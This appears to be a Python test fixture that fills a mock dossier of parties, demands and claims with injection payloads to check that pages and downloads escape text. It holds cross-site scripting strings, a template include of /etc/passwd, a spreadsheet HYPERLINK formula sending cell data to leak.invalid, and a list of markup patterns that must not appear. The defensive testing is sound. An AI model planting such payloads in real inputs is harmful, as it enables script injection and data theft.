"""A dossier with hostile text in every field that takes text, for pages, downloads and browsers.

Each text carries a number of its own, so that a test can tell where one came through. Whatever
runs any of it calls `window.hostile`, asks a host below `.invalid`, or leaves a dialogue open.
"""

from __future__ import annotations

from itertools import count
from pathlib import Path
from typing import Any

from tests.loaders.write_dossier import Rows, write_dossier

TITLE = "</title><script>window.hostile='title'</script>"
TEXTS = (
    "</script><script>window.hostile='script'</script>",
    "<img src=x onerror=\"window.hostile='image'\">",
    '" onmouseover="window.hostile=\'quote\'" autofocus onfocus="window.hostile=\'focus\'" x="',
    "' onclick='window.hostile=1' '",
    "<a href=\"javascript:window.hostile='link'\">click</a>",
    "javascript:window.hostile='address'",
    "<!--<script>window.hostile='comment'</script>",
    "]]><svg onload=\"window.hostile='svg'\"/>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}${window.hostile='template'}",
    "\u202eterces\u202c \u2066isolated\u2069 \u200fright-to-left\u200e",
    "👩‍👩‍👧‍👦🏴‍☠️ emoji \u0301\u0301\u0301 marks",
    '=HYPERLINK("http://leak.invalid/"&A1,"x")',
    '\\u003c/script\\u003e \\" ` ${} &lt;script&gt; &amp;lt; \u2028 \u2029 end',
    "<link rel=stylesheet href=//leak.invalid/x.css>",
    "<meta http-equiv=refresh content=0;//leak.invalid>",
)
LONG = "Long " + "and wide and unbroken" * 2 + "W" * 9_900 + "<b>end</b>"
URL = "https://leak.invalid/\"><script>window.hostile='url'</script>'onerror='x'?a=1&b=<i>"

# None of this may stand in a page as it is: it would be markup, not text.
MARKS = (
    "<script>window.hostile",
    "<img src=x",
    "<svg onload",
    '" onmouseover="window',
    "' onclick='window",
    '<a href="javascript:',
    "<link rel=stylesheet href=//leak",
    "<meta http-equiv=refresh",
    "<b>end</b>",
    'href="javascript:',
)


class _Texts:
    """The hostile texts one after another, each with a number that makes it a name of its own."""

    def __init__(self) -> None:
        self._numbers = count(1)

    def __call__(self) -> str:
        number = next(self._numbers)
        return f"{TEXTS[number % len(TEXTS)]} {number}"


def _claim(name: str, text: _Texts, **fields: Any) -> dict[str, Any]:
    return {
        "id": name,
        "said_on": "2030-01-02",
        "sources": [{"id": "s-one", "locator": text(), "quote": text()}],
        "paraphrase": text(),
        "note": text(),
        "condition": text(),
        "reported_by": text(),
        "certainty": "low",
        **fields,
    }


def tables() -> dict[str, Rows]:
    """Two parties who are at odds, a mediator with a stake, and all of it hostile."""
    text = _Texts()

    def party(name: str) -> dict[str, Any]:
        aliases = [text(), text()]
        row = {"id": name, "name": text(), "kind": "state", "aliases": aliases}
        return {**row, "wording_note": text()}

    def demand(name: str, **fields: Any) -> dict[str, Any]:
        row = {"id": name, "text": text(), "aliases": [text()], "concerns": ["a-pier"]}
        return {**row, "note": text(), **fields}

    return {
        "parties": [
            *(party(name) for name in ("aster", "basil", "clove", "dill")),
            {"id": "long", "name": LONG, "kind": "state"},
        ],
        "assets": [
            {"id": "a-pier", "name": text(), "kind": "facility", "aliases": [text()]}
            | {"latitude": 1.5, "longitude": -2.5, "note": text()},
            {"id": "a-crane", "name": text(), "kind": "facility", "part_of": ["a-pier"]},
        ],
        "demands": [
            demand("d-open", excludes=[{"id": "d-shut", "because": text()}]),
            demand("d-shut"),
            demand("d-long") | {"text": f"{LONG} demanded"},
        ],
        "events": [
            {"id": "e-talks", "name": text(), "kind": "talks", "start": "2030-01-02"}
            | {"end": "2030-01-03", "place": text()}
        ],
        "sources": [
            {"id": "s-one", "title": text(), "url": URL, "publisher": text(), "author": text()}
            | {"published": "2030-01-02", "published_inferred": True, "note": text()}
        ],
        "claims": _claims(text),
    }


def _claims(text: _Texts) -> Rows:
    stances = (
        ("aster", "demands", "d-open"),
        ("basil", "rejects", "d-open"),
        ("basil", "demands", "d-shut"),
        ("clove", "supports", "d-open"),
        ("long", "supports", "d-open"),
        ("long", "demands", "d-long"),
        ("dill", "rejects", "d-long"),
        ("aster", "controls", "a-pier"),
        ("basil", "claims", "a-pier"),
        ("clove", "mediates", "aster"),
        ("clove", "mediates", "basil"),
        ("long", "allied_with", "aster"),
        ("dill", "speaks_for", "basil"),
    )
    about = {"about": ["a-pier"], "addressed_to": ["clove"], "in_favour_of": ["aster"]}
    claims = [
        _claim(f"h{number}", text, subject=one, relation=relation, object=other)
        | (about | {"said_at": "e-talks"} if relation == "demands" else {})
        for number, (one, relation, other) in enumerate(stances, 1)
    ]
    took_part = _claim("h90", text, subject="aster", relation="took_part_in", object="e-talks")
    affected = _claim("h91", text, subject="e-talks", relation="affected", object="a-pier")
    return [*claims, took_part, affected]


def write_hostile(folder: Path) -> Path:
    """The hostile dossier as files in a folder, ready to be loaded; gives the folder."""
    return write_dossier(folder, "hostile", tables=tables(), title=TITLE)
